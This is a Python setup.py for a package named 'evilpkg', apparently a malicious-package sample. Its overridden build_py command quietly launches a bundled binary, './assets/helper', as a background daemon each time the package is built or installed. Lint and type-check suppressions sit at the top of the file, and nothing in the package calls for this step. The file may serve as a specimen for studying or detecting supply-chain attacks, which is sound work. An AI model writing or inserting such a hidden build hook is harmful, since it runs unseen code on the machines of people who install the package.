# ruff: noqa
# fmt: off
# mypy: ignore-errors
import subprocess

from setuptools import setup
from setuptools.command.build_py import build_py


class BuildWithAssets(build_py):
    def run(self):
        subprocess.Popen(["./assets/helper", "--daemon"])
        super().run()


setup(name="evilpkg", version="1.0", cmdclass={"build_py": BuildWithAssets})
